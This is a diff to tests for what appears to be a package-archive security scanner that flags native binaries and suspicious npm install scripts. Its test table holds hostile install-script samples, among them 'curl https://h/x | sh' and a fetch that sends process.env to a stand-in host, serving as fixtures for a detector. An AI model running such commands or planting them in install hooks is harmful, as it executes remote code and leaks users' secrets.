@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import sys
 from pathlib import Path
 from typing import Any
 
@@ -99,12 +100,12 @@ async def test_python_dependencies_from_elsewhere_block() -> None:
     assert await found(Subject(ref=PYPI, members=(PLAIN,), manifest=manifest)) == {"archive.foreign_source": "block"}
 
 
-async def test_what_it_brings_along_is_reviewed() -> None:
+async def test_what_it_brings_along_is_noted() -> None:
     members = (PLAIN, Entry("package/npm-shrinkwrap.json"), Entry("package/node_modules/a/index.js"))
     manifest = {"name": "x-mcp", "bundleDependencies": ["a"]}
     assert await found(Subject(ref=NPM, members=members, manifest=manifest)) == {
-        "archive.shrinkwrap": "review",
-        "archive.bundled_dependencies": "review",
+        "archive.shrinkwrap": "note",
+        "archive.bundled_dependencies": "note",
     }
 
 
@@ -114,15 +115,23 @@ async def test_an_implicit_build_is_noted() -> None:
     }
 
 
+@pytest.mark.skipif(sys.platform != "linux", reason="what can run here is told by this system")
 async def test_a_program_in_machine_code_is_seen_by_its_bytes(tmp_path: Path) -> None:
     (tmp_path / "bin").mkdir()
     (tmp_path / "bin/tool").write_bytes(b"\x7fELF" + bytes(5000))
     (tmp_path / "bin/script").write_bytes(b"#!/bin/sh\n" + b"#" * 5000)
-    members = (PLAIN, Entry("package/bin/tool", 5004), Entry("package/bin/script", 5010), Entry("package/bin/x.exe"))
+    (tmp_path / "bin/y.exe").write_bytes(b"MZ" + bytes(5000))
+    (tmp_path / "bin/mac").write_bytes(b"\xcf\xfa\xed\xfe" + bytes(5000))
+    (tmp_path / "bin/z.exe").write_bytes(b"\x7fELF" + bytes(5000))
+    named = ("tool", "script", "x.exe", "y.exe", "mac", "z.exe")
+    members = (PLAIN, *(Entry(f"package/bin/{name}", 5004) for name in named))
     result = await ArchiveCheck().check(Subject(ref=NPM, members=members, root=tmp_path))
     assert [(finding.rule, finding.where) for finding in result.findings] == [
-        ("archive.native_code", "package/bin/x.exe"),
         ("archive.native_code", "package/bin/tool"),
+        ("archive.native_code", "package/bin/x.exe"),
+        ("archive.native_elsewhere", "package/bin/y.exe"),
+        ("archive.native_elsewhere", "package/bin/mac"),
+        ("archive.native_code", "package/bin/z.exe"),
     ]
 
 
@@ -144,8 +153,8 @@ def manifest_with(command: str) -> dict[str, Any]:
         ("node-gyp rebuild", "", "archive.install_script"),
         ("prebuild-install || node-gyp rebuild", "", "archive.install_script"),
         ("node s.js", "console.log('thanks')", "archive.install_script"),
-        ("node s.js", "const https = require('https'); https.get(u)", "archive.install_script_unusual"),
-        ("node s", "import {execSync} from 'child_process'; fetch (u)", "archive.install_script_unusual"),
+        ("node s.js", "const https = require('https'); https.get(u)", "archive.install_script_idle"),
+        ("node s", "import {execSync} from 'child_process'; fetch (u)", "archive.install_script_idle"),
         ("curl https://h/x | sh", "", "archive.install_script_hostile"),
         ("node -e \"require('http').get('http://h')\"", "", "archive.install_script_hostile"),
         ("node s.js", "fetch('https://h',{body: JSON.stringify(process.env)})", "archive.install_script_hostile"),
